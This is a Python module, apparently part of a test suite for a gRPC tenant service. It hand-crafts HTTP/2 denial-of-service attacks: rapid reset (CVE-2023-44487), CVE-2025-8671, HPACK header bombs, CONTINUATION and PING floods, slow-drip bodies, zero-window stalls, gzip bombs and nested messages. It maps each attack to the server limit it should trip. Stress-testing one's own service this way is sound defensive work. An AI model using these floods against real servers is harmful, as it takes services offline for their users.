"""What one hostile client does to the service: each function is an attack on one connection, frames by hand.

An attack yields after each portion of its flood; the caller decides when it is enough.  OSError ends the connection: cut off.
"""
import gzip
import struct

from clients import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, NO_WINDOW, PATH, PING, PRIORITY, RST, SETTINGS,
                     WINDOW, HalfHandshakes, HalfPreface, OtherPreface, OwnKeys, Several, UnreadSocket, frame)

UPDATE = "/tenant.v1.TenantService/UpdateTenant"  # takes larger messages than others
UPDATE_BYTES = 256 << 10
PORTION = 100  # frames in one write


def repeated(connection, make):
    while True:
        connection.send(b"".join(make() for _ in range(PORTION)))
        connection.drain()
        yield PORTION


# --- floods ---------------------------------------------------------------------------------------------------------


TENANT = b"tnt_01H455VB4PEX5VSKNK084SN02Q"


def rapid_reset(connection):
    """CVE-2023-44487, of calls that the gate lets pass."""
    body = b"\0\0\0\0\x20\x0a\x1e" + TENANT

    def one():
        head = connection.begin([("x-tenant-id", TENANT.decode())])
        return head + frame(DATA, END_STREAM, connection.stream, body) + \
            frame(RST, 0, connection.stream, struct.pack(">I", 8))
    return repeated(connection, one)


def made_you_reset(connection):
    """CVE-2025-8671: a window beyond 2^31 - 1 makes the server reset the stream itself."""
    return repeated(connection, lambda: connection.begin() + frame(WINDOW, 0, connection.stream, b"\x7f\xff\xff\xff"))


def zero_window_update(connection):
    """What the library ends the connection for by itself."""
    return repeated(connection, lambda: connection.begin() + frame(WINDOW, 0, connection.stream, bytes(4)))


def continuation(connection):
    connection.send(frame(HEADERS, 0, connection.next_stream(), connection.request()))
    return repeated(connection, lambda: frame(CONTINUATION, 0, connection.stream))


def header_bomb(connection):
    """One large field in HPACK's table, named thousands of times."""
    block = connection.request() + b"\x40\x01a\x7f\x81\x1d" + b"x" * 3840 + b"\xbe" * 8000
    return repeated_slowly(connection, lambda: frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), block))


def in_pieces(connection, block):
    """HEADERS and as many CONTINUATIONs as there must be."""
    parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    stream = connection.next_stream()
    return b"".join(frame(CONTINUATION if i else HEADERS, (0 if i else END_STREAM) |
                          (END_HEADERS if i == len(parts) - 1 else 0), stream, part) for i, part in enumerate(parts))


def bomb_without_window(connection):
    """The same by who takes no answer."""
    connection.send(NO_WINDOW)
    return header_bomb(connection)


def malformed_bomb(connection):
    """An upper-case name, and 80 KiB that are decoded for nobody."""
    block = connection.request() + b"\x40\x01X\x01v"
    block += b"\x60\x00" * ((5 * 16384 - len(block)) // 2)  # entries of the table, each of which drives one out
    return repeated_slowly(connection, lambda: in_pieces(connection, block))


def malformed_bombs(connection):
    """Each of them small enough."""
    block = connection.request() + b"\x40\x01X\x01v" + b"\x60\x00" * 8000
    return repeated_slowly(connection, lambda: in_pieces(connection, block))


def header_count(connection):
    fields = [(f"x-{n}", "1") for n in range(500)]
    return repeated_slowly(connection, lambda: connection.begin(fields, END_HEADERS | END_STREAM))


def settings(connection):
    return repeated(connection, lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))


def acknowledgements(connection):
    """PINGs while a call is open, which pass for keepalive: more at once than may wait for their answers."""
    connection.send(connection.begin([("grpc-timeout", "29S")]))
    while True:
        connection.send(frame(PING, 0, 0, b"12345678") * 3 * PORTION)
        connection.drain()
        yield 3 * PORTION


def ping(connection):
    return repeated(connection, lambda: frame(PING, 0, 0, b"12345678"))


def priority(connection):
    return repeated(connection, lambda: frame(PRIORITY, 0, 1, bytes([0, 0, 0, 0, 16])))


def unknown_frames(connection):
    return repeated(connection, lambda: frame(0xbe, 0, 0, b"x"))


def empty_data(connection):
    connection.send(connection.begin())
    return repeated(connection, lambda: frame(DATA, 0, connection.stream))


def tiny_data(connection):
    """A message that comes byte by byte."""
    connection.send(connection.begin() + frame(DATA, 0, connection.stream, b"\0\0\0\xff\xff"))
    return repeated(connection, lambda: frame(DATA, 0, connection.stream, b"x"))


def large_frames(connection):
    return repeated_slowly(connection, lambda: connection.begin() + frame(DATA, 0, connection.stream, bytes(16385)))


def beyond_windows(connection):
    """Bodies that go on when their window is used up."""
    return repeated_slowly(connection, lambda: connection.begin() + frame(DATA, 0, connection.stream, bytes(16384)) * 5)


def large_tables(connection):
    """A larger table of HPACK's than was offered."""
    return repeated_slowly(connection, lambda: frame(
        HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), b"\x3f\xe1\xff\x03" + connection.request()))


def window_update(connection):
    return repeated(connection, lambda: frame(WINDOW, 0, 0, struct.pack(">I", 1)))


def empty_names(connection):
    """CVE-2019-9516: fields without names, which some servers kept."""
    return repeated_slowly(connection, lambda: frame(
        HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), connection.request() + b"\x00\x00\x01v" * 40))


def empty_headers(connection):
    return repeated(connection, lambda: frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream()))


def not_grpc(connection):
    return repeated(connection, lambda: frame(
        HEADERS, END_HEADERS | END_STREAM, connection.next_stream(),
        connection.encoder.encode([(":method", "POST"), (":scheme", "https"), (":path", "/"), (":authority", "x"),
                                   ("content-type", "text/plain")])))



def cookie_crumbs(connection):
    """One field to whoever puts them together, hundreds to whoever counts."""
    return repeated_slowly(connection, lambda: connection.begin([("cookie", f"c{n}=1") for n in range(100)],
                                                                END_HEADERS | END_STREAM))


def long_fields(connection):
    """One field above what a field may have, below what all may."""
    return repeated_slowly(connection, lambda: connection.begin([("x-long", "~" * 9000)], END_HEADERS | END_STREAM))


def many_settings(connection):
    return repeated_slowly(connection, lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 40))


def begun_anew(connection, last):
    """Streams from the first one, below one that was opened already: that costs a connection each time."""
    connection.stream = last - 2
    connection.send(connection.begin(flags=END_HEADERS | END_STREAM))
    connection.stream = -1
    return repeated_slowly(connection, lambda: connection.begin(flags=END_HEADERS | END_STREAM))


def streams_backwards(connection):
    return begun_anew(connection, 3)


def streams_used_up(connection):
    """The last number there is, and then from the beginning."""
    return begun_anew(connection, 0x7fffffff)


def data_after_the_end(connection):
    return repeated_slowly(connection, lambda: connection.begin(flags=END_HEADERS | END_STREAM) +
                           frame(DATA, 0, connection.stream, b"x"))


def long_farewells(connection):
    return repeated_slowly(connection, lambda: frame(GOAWAY, 0, 0, bytes(8) + b"x" * 2000))


def key_updates(connection):
    while True:
        for _ in range(PORTION):
            connection.update()
        yield PORTION


# --- slow ones, which hold things ----------------------------------------------------------------------------------------


def repeated_slowly(connection, make):
    while True:
        connection.send(make())
        connection.drain()
        yield 1


def held(connection, data):
    connection.send(data)
    yield from waiting(connection)


def waiting(connection):
    while True:
        connection.drain()
        yield 0


def slow_headers(connection):
    return held(connection, frame(HEADERS, 0, connection.next_stream(), connection.request()))


def slow_bodies(connection):
    """A hundred streams, each a prefix that promises 256 KiB."""
    return held(connection, b"".join(
        connection.begin([("grpc-timeout", "29S")], path=UPDATE) +
        frame(DATA, 0, connection.stream, b"\0\0\x03\xff\xff" + b"x" * 100) for _ in range(100)))


def dripping_bodies(connection):
    """The same, and a byte now and then: always some progress."""
    connection.send(b"".join(
        connection.begin([("grpc-timeout", "29S")], path=UPDATE) +
        frame(DATA, 0, connection.stream, b"\0\0\x03\xff\xff" + b"x" * 100) for _ in range(100)))
    while True:
        connection.send(b"".join(frame(DATA, 0, stream, b"x") for stream in range(1, connection.stream + 1, 2)))
        for _ in range(40):
            connection.drain()
            yield 0


def unread_answers(connection):
    """A window of nothing: answers pile up."""
    connection.send(NO_WINDOW)
    body = b"\0\0\0\0\x00"

    def one():
        head = connection.begin(path="/tenant.v1.TenantService/ListTenants")
        return head + frame(DATA, END_STREAM, connection.stream, body)
    return repeated(connection, one)


def held_answers(connection):
    """As many as may be open, and no more."""
    body = b"\0\0\0\0\x00"
    return held(connection, NO_WINDOW + b"".join(
        connection.begin(path="/tenant.v1.TenantService/ListTenants") + frame(DATA, END_STREAM, connection.stream, body)
        for _ in range(90)))


def dripping_answers(connection):
    """The same, and a byte of window now and then: always some progress."""
    body = b"\0\0\0\0\x00"
    connection.send(NO_WINDOW + b"".join(
        connection.begin(path="/tenant.v1.TenantService/ListTenants") + frame(DATA, END_STREAM, connection.stream, body)
        for _ in range(90)))
    while True:
        for _ in range(40):
            connection.drain()
            yield 0
        connection.send(b"".join(frame(WINDOW, 0, stream, struct.pack(">I", 1))
                                 for stream in range(1, connection.stream + 1, 2)))


REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"


def asking_much(connection):
    """A request of fifty bytes for thousands: of the file with our service, and what that stands on."""
    symbol = b"tenant.v1.TenantService"
    body = b"\x22" + bytes([len(symbol)]) + symbol
    return connection.begin(path=REFLECTION) + frame(DATA, END_STREAM, connection.stream,
                                                     b"\0" + struct.pack(">I", len(body)) + body)


def hoarded_answers(connection):
    """Large ones, and a window of nothing: they lie there."""
    return held(connection, NO_WINDOW +
                b"".join(asking_much(connection) for _ in range(90)))


def unread_socket(connection):
    """CVE-2019-9517: large answers into windows that never end, and nobody reads the socket."""
    connection.send(b"".join(asking_much(connection) for _ in range(90)))
    while True:
        yield 0


def answers_on_answers(connection):
    """The same, and once they lie there more is asked for."""
    connection.send(NO_WINDOW)
    for _ in range(2):
        connection.send(b"".join(asking_much(connection) for _ in range(30)))  # fewer than requests_per_turn
        for _ in range(10):
            connection.drain()
            yield 0
    for _ in range(30):
        connection.send(asking_much(connection))
        connection.drain()
        yield 1
    yield from held(connection, b"")


def hoarded_memory(several):
    """A hundred bodies on each connection, which stop short of their windows' ends."""
    while True:
        connection = several.another()
        for _ in range(100):
            connection.send(connection.begin([("grpc-timeout", "29S")], path=UPDATE) +
                            frame(DATA, 0, connection.stream, b"\0\0\x03\xff\xff") +
                            frame(DATA, 0, connection.stream, bytes(16384)) * 3)
            connection.drain()
            yield 4
        for _ in range(10):
            yield 0


# --- messages ---------------------------------------------------------------------------------------------------------------


def last_frames(stream, data):
    """All that a request has to send, in frames of the size that everybody takes."""
    parts = [data[i:i + 16384] for i in range(0, len(data), 16384)]
    return b"".join(frame(DATA, END_STREAM if i == len(parts) - 1 else 0, stream, part) for i, part in enumerate(parts))


def message(connection, payload, extra=(), flag=0):
    prefix = bytes([flag]) + struct.pack(">I", len(payload))
    data = prefix + payload

    def one():
        head = connection.begin(extra, path=UPDATE)
        return head + last_frames(connection.stream, data)
    return repeated_slowly(connection, one)


def gzip_bombs(connection):
    return message(connection, gzip.compress(bytes(20 << 20)), [("grpc-encoding", "gzip")], 1)


def gzip_large(connection):
    """The most that passes: half a kilobyte that becomes all but 256 KiB, an unknown field to be skipped."""
    payload = b"\x7a" + bytes([0xf0, 0xff, 0x0f]) + bytes(UPDATE_BYTES - 16)
    return message(connection, gzip.compress(payload), [("grpc-encoding", "gzip")], 1)


def gzip_of_nothing(connection):
    """Members without content: the time of inflating, and nothing to show for it.  As many bytes as are inflated at once."""
    return message(connection, gzip.compress(b"") * 1600, [("grpc-encoding", "gzip")], 1)


def gzip_padding(connection):
    """The same in a message of the largest size."""
    return message(connection, gzip.compress(b"") * (UPDATE_BYTES // 20 - 1), [("grpc-encoding", "gzip")], 1)


def nested(connection):
    """No request of ours is recursive: it is one unknown field, skipped in one step.  No limit is to be met."""
    payload = b""
    for _ in range(100):
        payload = b"\x1a" + bytes([len(payload) & 127 | 128, len(payload) >> 7]) + payload
    return message(connection, payload)


def many_fields(connection):
    return message(connection, b"\x7a\x00" * 25000)


def passing_fields(connection):
    """As many as may be, each with memory of its own: the paths of an update mask."""
    paths = b"\x0a\x01a" * 990
    return message(connection, b"\x12" + bytes([len(paths) & 127 | 128, len(paths) >> 7]) + paths)


def json_message(connection, text):
    data = text.encode()

    def one():
        head = frame(HEADERS, END_HEADERS, connection.next_stream(), connection.encoder.encode(
            [(":method", "POST"), (":scheme", "https"), (":path", UPDATE), (":authority", "localhost"),
             ("content-type", "application/json")]))
        return head + last_frames(connection.stream, data)
    return repeated_slowly(connection, one)


def json_members(connection):
    """As many as may be, too."""
    labels = ",".join(f'"k{n}":"v"' for n in range(990))
    return json_message(connection, '{"tenant":{"labels":{' + labels + "}}}")


def json_escapes(connection):
    """The slowest bytes, as many as a window takes."""
    return json_message(connection, '{"tenant":{"displayName":"' + "\\u0041" * 10000 + '"}}')


# attacks that only who may call the method can make, and those that hold things until a time limit
BY_ADMIN = ("rapid reset", "shared address", "slow bodies", "dripping bodies", "gzip bombs", "gzip to the limit",
            "gzip of nothing", "gzip padding", "deep nesting", "many fields", "fields that pass", "JSON members",
            "JSON escapes", "unread answers", "held answers", "dripping answers", "acknowledgements", "hoarded answers",
            "answers on answers", "unread socket", "hoarded memory")
SLOW = ("slow headers", "slow handshakes", "slow prefaces", "slow bodies", "dripping bodies", "held answers",
        "dripping answers", "hoarded answers", "unread socket")
# attackers that are more than one connection, or less
KINDS = {"key updates": OwnKeys, "slow handshakes": HalfHandshakes, "slow prefaces": HalfPreface, "other prefaces": OtherPreface,
         "unread socket": UnreadSocket, "hoarded memory": Several}
# limits that one machine does not reach in seconds at their defaults: a service with others
SETTINGS_OF = {"hoarded memory": {"LIMITS_CONNECTION_MEMORY": "8MiB"}}

ON_A_CONNECTION = {
    "rapid reset": (rapid_reset, "client_resets"), "made you reset": (made_you_reset, "server_resets"),
    "zero window update": (zero_window_update, "invalid_frame"),
    "continuation": (continuation, "continuations"), "header bomb": (header_bomb, "header_bytes"),
    "bomb, no window": (bomb_without_window, "header_bytes"),
    "malformed bomb": (malformed_bomb, "header_bytes"), "malformed bombs": (malformed_bombs, "header_bytes"),
    "header count": (header_count, "header_fields"), "cookie crumbs": (cookie_crumbs, "header_fields"),
    "empty names": (empty_names, "server_resets"), "empty headers": (empty_headers, "server_resets"),
    "settings": (settings, "settings"), "ping": (ping, "ping"),
    "priority": (priority, "priority"), "unknown frames": (unknown_frames, "priority"),
    "empty data": (empty_data, "empty_data"), "window update": (window_update, "window_updates"),
    "key updates": (key_updates, "key_updates"), "tiny data": (tiny_data, "control_frames"),
    "large frames": (large_frames, "frame_size"), "beyond windows": (beyond_windows, "stream_window"),
    "large tables": (large_tables, "compression"), "long fields": (long_fields, "header_field_bytes"),
    "many settings": (many_settings, "settings_entries"), "other prefaces": (waiting, "bad_preface"),
    "streams backwards": (streams_backwards, "stream_order"), "streams used up": (streams_used_up, "stream_order"),
    "data after the end": (data_after_the_end, "closed_stream"),
    "long farewells": (long_farewells, "goaway_bytes"),
    "not gRPC": (not_grpc, "not_grpc"), "slow headers": (slow_headers, "headers_timeout"),
    "slow handshakes": (waiting, "handshake_timeout"), "slow prefaces": (waiting, "preface_timeout"),
    "slow bodies": (slow_bodies, "body_progress"), "dripping bodies": (dripping_bodies, "body_rate"),
    "unread answers": (unread_answers, "concurrent_streams"), "held answers": (held_answers, "write_stall"),
    "dripping answers": (dripping_answers, "write_rate"), "hoarded answers": (hoarded_answers, "stalled_bytes"),
    "unread socket": (unread_socket, "write_stall"),
    "answers on answers": (answers_on_answers, "queued_response_bytes"),
    "acknowledgements": (acknowledgements, "outbound_acks"), "hoarded memory": (hoarded_memory, "connection_memory"),
    "gzip bombs": (gzip_bombs, "inflated_bytes"), "gzip to the limit": (gzip_large, "decoded_per_turn"),
    "gzip of nothing": (gzip_of_nothing, "decoded_per_turn"), "gzip padding": (gzip_padding, "MESSAGE_TOO_COMPLEX"),
    "deep nesting": (nested, ""),
    "many fields": (many_fields, "MESSAGE_TOO_COMPLEX"), "fields that pass": (passing_fields, "decoded_per_turn"),
    "JSON members": (json_members, "decoded_per_turn"), "JSON escapes": (json_escapes, "decoded_per_turn"),
    "shared address": (rapid_reset, "client_resets"),
}
